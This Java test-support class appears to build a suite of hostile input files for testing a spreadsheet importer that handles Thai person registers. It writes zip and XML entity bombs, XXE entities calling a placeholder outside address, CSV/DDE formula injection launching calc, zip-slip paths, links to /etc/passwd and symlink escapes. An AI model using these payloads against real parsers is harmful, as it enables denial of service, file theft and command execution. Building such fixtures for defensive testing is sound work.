package org.prasan.support;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.prasan.support.RawParts.both;
import static org.prasan.support.RawParts.encrypted;
import static org.prasan.support.RawParts.formula;
import static org.prasan.support.RawParts.inline;
import static org.prasan.support.RawParts.linkInAZip;
import static org.prasan.support.RawParts.overlapping;
import static org.prasan.support.RawParts.repeated;
import static org.prasan.support.RawParts.row;
import static org.prasan.support.RawParts.rows;
import static org.prasan.support.RawParts.sheet;
import static org.prasan.support.RawParts.stringsClaimed;
import static org.prasan.support.RawParts.text;
import static org.prasan.support.RawParts.workbook;
import static org.prasan.support.RawParts.zip;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.zip.Deflater;
import org.prasan.support.RawParts.Part;

/**
 * Writes an inbox of files made to exhaust, to spy, to call out or to lead away, each under a name that says how. Those
 * that a form can be told of are registers of {@link HomeBuilder}.
 */
public final class TortureFiles {

    private static final int MEGABYTE = 1 << 20;
    private static final int A_HUNDRED_MEGABYTES = 100 * MEGABYTE;
    private static final String ENTITIES = "<!DOCTYPE a [<!ENTITY a 'ha'>"
            + "<!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;'>"
            + "<!ENTITY d '&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;'><!ENTITY e '&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;'>]>";
    private static final String ENTITY_ROW =
            "<worksheet><sheetData><row><c t='str'><v>&e;</v></c></row></sheetData></worksheet>";

    private final Path inbox;
    private final String outside;

    private TortureFiles(Path inbox, String outside) {
        this.inbox = inbox;
        this.outside = outside;
    }

    /** @param outside an address that nobody may call, which the files refer to */
    public static void write(Path inbox, String outside) throws IOException {
        Files.createDirectories(inbox);
        TortureFiles files = new TortureFiles(inbox, outside);
        files.bombs();
        files.entities();
        files.sizes();
        files.nesting();
        files.longTexts();
        files.callingOut();
        files.leadingAway();
    }

    private void bombs() throws IOException {
        xlsx("bomb-rows.xlsx", sheet(rows(repeated("<row/>", 12_000_000))));
        xlsx("bomb-blanks.xlsx", sheet(repeated(" ", A_HUNDRED_MEGABYTES)));
        xlsx(
                "bomb-strings.xlsx",
                sheet(text("")),
                "xl/sharedStrings.xml",
                both(text("<sst>"), repeated("<si/>", 20_000_000)));
        ods("bomb-rows.ods", repeated("<table:table-row/>", 5_000_000));
        file("bomb-of-files.zip", overlapping(60 * MEGABYTE, 900));
        file("bomb-in-a-zip.zip", zip("inner.zip", text(overlapping(60 * MEGABYTE, 800))));
        stored(
                "attribute-of-60-megabytes.xlsx",
                sheet(both(text("<sheetData><row r='"), repeated("1", 60 * MEGABYTE))));
        stored("comment-of-20-megabytes.xlsx", sheet(both(text("<!--"), repeated("a", 20 * MEGABYTE))));
        stored("element-of-20-megabytes.xlsx", sheet(both(text("<"), repeated("a", 20 * MEGABYTE))));
    }

    private void entities() throws IOException {
        String spy = "<!DOCTYPE a [<!ENTITY e SYSTEM '" + outside + "/entity'>]>";
        String parameter = "<!DOCTYPE a [<!ENTITY % p SYSTEM '" + outside + "/parameter'> %p;]>";
        xlsx("entity-bomb.xlsx", text(ENTITIES + ENTITY_ROW));
        xlsx("entity-external.xlsx", text(spy + ENTITY_ROW));
        xlsx("entity-parameter.xlsx", text(parameter + ENTITY_ROW));
        xlsx("entity-doctype.xlsx", text("<!DOCTYPE a SYSTEM '" + outside + "/dtd'>" + ENTITY_ROW));
        xlsx(
                "entity-bomb-strings.xlsx",
                sheet(text("")),
                "xl/sharedStrings.xml",
                text(ENTITIES + "<sst><si><t>&e;</t></si></sst>"));
        file("entity-external.ods", zip("content.xml", text(spy + "<office:document-content/>")));
        file("entity-bomb.xml", (ENTITIES + "<a>&e;</a>").getBytes(UTF_8));
        file(
                "entity-external.xls",
                ("<!DOCTYPE html [<!ENTITY e SYSTEM '" + outside + "/html'>]><html><body><img src='" + outside
                                + "/picture'><table><tr><td>&e;</td></tr></table><script src='" + outside
                                + "/script'></script></body></html>")
                        .getBytes(UTF_8));
    }

    private void sizes() throws IOException {
        xlsx(
                "rows-declared.xlsx",
                text("<worksheet><dimension ref='A1:XFD10000000'/><sheetData><row r='10000000'>"
                        + "<c r='A10000000'><v>1</v></c></row></sheetData></worksheet>"));
        xlsx("rows-written.xlsx", sheet(rows(repeated("<row><c><v>1</v></c></row>", 1_100_000))));
        ods(
                "rows-repeated.ods",
                text("<table:table-row table:number-rows-repeated='10000000'><table:table-cell "
                        + "office:value-type='string'><text:p>1</text:p></table:table-cell></table:table-row>"));
        ods(
                "cells-repeated.ods",
                repeated(
                        "<table:table-row table:number-rows-repeated='1400'><table:table-cell "
                                + "table:number-columns-repeated='14000' office:value-type='string'><text:p>1</text:p>"
                                + "</table:table-cell></table:table-row>",
                        70));
        file("rows.csv", "\n".repeat(10_000_000).getBytes(UTF_8));
        file("columns.csv", ",".repeat(10_000_000).getBytes(UTF_8));
        file(
                "rows-spanned.html",
                ("<table>" + "<tr><td rowspan=10000000 colspan=1000>1</td></tr>".repeat(5_000)).getBytes(UTF_8));
        xlsx(
                "sheets.xlsx",
                sheet(text("")),
                "xl/workbook.xml",
                both(text("<workbook><sheets>"), repeated("<sheet name='a' id='r1'/>", 100_000)));
        xlsx(
                "merges.xlsx",
                sheet(both(
                        text("<sheetData/><mergeCells>"),
                        both(repeated("<mergeCell ref='A1:A1048576'/>", 300_000), text("</mergeCells>")))));
        file("strings-claimed.xls", stringsClaimed());
        file("too-large.bin", new byte[65 * MEGABYTE]);
    }

    private void nesting() throws IOException {
        xlsx("nested-elements.xlsx", sheet(both(text("<sheetData><row><c>"), repeated("<a>", 2_000_000))));
        ods(
                "nested-spans.ods",
                both(
                        text("<table:table-row><table:table-cell office:value-type='string'><text:p>"),
                        repeated("<text:span>", 1_000_000)));
        file("nested-blocks.html", ("<table></table>" + "<div>".repeat(700_000)).getBytes(UTF_8));
        file("nested-tables.html", "<table><tr><td>".repeat(200_000).getBytes(UTF_8));
        file("nested-lists.html", ("<table></table>" + "<ul><li>".repeat(400_000)).getBytes(UTF_8));
        xlsx("nested-formula.xlsx", register("<c t='str'><f>" + "(".repeat(500_000) + "</f><v>1/61</v></c>"));
        file("nested-zips.zip", zip("1.zip", text(zip("2.zip", text(zip("a.csv", text("a,b")))))));
    }

    private void longTexts() throws IOException {
        String cell = "<row><c t='inlineStr'><is><t>";
        xlsx("cell-of-100-megabytes.xlsx", sheet(rows(both(text(cell), repeated("ก", A_HUNDRED_MEGABYTES / 3)))));
        xlsx(
                "string-of-100-megabytes.xlsx",
                sheet(text("")),
                "xl/sharedStrings.xml",
                both(text("<sst><si><t>"), repeated("ก", A_HUNDRED_MEGABYTES / 3)));
        ods(
                "cell-of-100-megabytes.ods",
                both(
                        text("<table:table-row><table:table-cell office:value-type='string'><text:p>"),
                        repeated("ก", A_HUNDRED_MEGABYTES / 3)));
        file("cell-of-20-megabytes.csv", ("a,\"" + "b".repeat(20 * MEGABYTE)).getBytes(UTF_8));
        file("text-of-20-megabytes.html", ("<table></table>" + "b".repeat(20 * MEGABYTE)).getBytes(UTF_8));
        xlsx("marks.xlsx", register(inline("ก" + "\u0e48".repeat(500_000) + "\u0e35".repeat(500_000))));
        xlsx(
                "headers.xlsx",
                sheet(rows(text(row(inline("ทะเบียนบุคคล"))
                        + row(inline("เลขที่") + inline("ก".repeat(1_000_000))).repeat(20)))));
        xlsx("codes.xlsx", register(inline("1/61"), inline("ก".repeat(300_000)).repeat(3), 20));
        xlsx(
                "format-code.xlsx",
                register("<c s='0'><v>1</v></c>"),
                "xl/styles.xml",
                text("<styleSheet><numFmts><numFmt numFmtId='200' formatCode='" + "[".repeat(1_000_000)
                        + "'/></numFmts><cellXfs><xf numFmtId='200'/></cellXfs></styleSheet>"));
    }

    /** What is recognised is read by what its formulas last came to; nothing of it runs or calls. */
    private void callingOut() throws IOException {
        xlsx("formula-that-calls.xlsx", register(formula("WEBSERVICE(\"" + outside + "/formula\")")));
        xlsx("formula-of-a-link.xlsx", register(formula("HYPERLINK(\"" + outside + "/link\")")));
        xlsx("formula-of-another-file.xlsx", register(formula("'" + outside + "/[a.xlsx]S'!A1")));
        xlsx("formula-of-a-program.xlsx", register(formula("cmd|' /C calc'!A0")));
        xlsx("macro.xlsm", register(inline("1/61")), "xl/vbaProject.bin", text("Sub Auto_Open()"));
        xlsx(
                "connection.xlsx",
                register(inline("1/61")),
                "xl/connections.xml",
                text("<connections><connection id='1' type='4'><webPr url='" + outside
                        + "/data'/></connection></connections>"));
        xlsx(
                "links.xlsx",
                register(inline("1/61")),
                "xl/worksheets/_rels/sheet1.xml.rels",
                text("<Relationships><Relationship Id='r1' Type='x/hyperlink' Target='" + outside
                        + "/hyperlink' TargetMode='External'/></Relationships>"));
        file(
                "formulas.csv",
                ("ทะเบียนบุคคล\nสถานีหนึ่ง\nตุลาคม 2561\n" + String.join(",", HEADERS)
                                + "\n1,=cmd|' /C calc'!A0,1/10/2561,D1,M,20,1\n2,\"@SUM(1)\",1/10/2561,D1,M,20,1\n")
                        .getBytes(UTF_8));
    }

    private void leadingAway() throws IOException {
        file("name-up.zip", zip("../up.csv", text("a")));
        file("name-root.zip", zip("/etc/up.csv", text("a")));
        file("name-drive.zip", zip("C:\\up.csv", text("a")));
        file("link-in-a-zip.zip", linkInAZip());
        xlsx(
                "part-up.xlsx",
                sheet(text("")),
                "_rels/.rels",
                text(
                        "<Relationships><Relationship Id='r1' Type='x/officeDocument' Target='../../../etc/passwd'/></Relationships>"));
        xlsx(
                "part-outside.xlsx",
                sheet(text("")),
                "_rels/.rels",
                text("<Relationships><Relationship Id='r1' Type='x/officeDocument' Target='file:///etc/passwd' "
                        + "TargetMode='External'/></Relationships>"));
        file("password-of-many-rounds.xlsx", encrypted("spinCount='2000000000' saltSize='16' blockSize='16'"));
        file("password-entity.xlsx", encrypted("", "<!DOCTYPE a SYSTEM '" + outside + "/password'>"));
        Path secret = Files.writeString(inbox.resolveSibling("secret.csv"), "ลับ");
        Files.createSymbolicLink(inbox.resolve("link.csv"), secret.toAbsolutePath());
        Files.createSymbolicLink(inbox.resolve("link"), inbox.toAbsolutePath().getParent());
        xlsx("zz-good.xlsx", register(inline("1/61")));
    }

    private static final String[] HEADERS = {"ลำดับ", "เลขที่", "วันที่พบ", "อำเภอ", "เพศ", "อายุ", "เด็กชาย"};

    /** A line whose number is this cell. */
    private static Part register(String number) {
        return register(number, inline("D1") + inline("M") + inline("20"), 1);
    }

    private static Part register(String number, String codes, int lines) {
        StringBuilder headers = new StringBuilder();
        for (String header : HEADERS) {
            headers.append(inline(header));
        }
        return sheet(rows(text(row(inline("ทะเบียนบุคคล"))
                + row(inline("สถานีหนึ่ง"))
                + row(inline("ตุลาคม 2561"))
                + row(headers.toString())
                + row(inline("1") + number + inline("1/10/2561") + codes + "<c><v>1</v></c>")
                        .repeat(lines))));
    }

    private void file(String name, byte[] content) throws IOException {
        Files.write(inbox.resolve(name), content);
    }

    private void xlsx(String name, Part sheet, String part, Part content) throws IOException {
        file(name, workbook(sheet, Deflater.BEST_SPEED, part, content));
    }

    private void xlsx(String name, Part sheet) throws IOException {
        xlsx(name, sheet, "xl/nothing", text(""));
    }

    /** Hardly smaller than what it inflates to, so that no ratio gives it away. */
    private void stored(String name, Part sheet) throws IOException {
        file(name, workbook(sheet, Deflater.NO_COMPRESSION, "xl/nothing", text("")));
    }

    private void ods(String name, Part rows) throws IOException {
        file(
                name,
                zip(
                        "content.xml",
                        both(
                                text(
                                        "<office:document-content xmlns:office='o' xmlns:table='t' xmlns:text='x'><office:body>"
                                                + "<office:spreadsheet><table:table table:name='S'>"),
                                both(
                                        rows,
                                        text(
                                                "</table:table></office:spreadsheet></office:body></office:document-content>")))));
    }
}
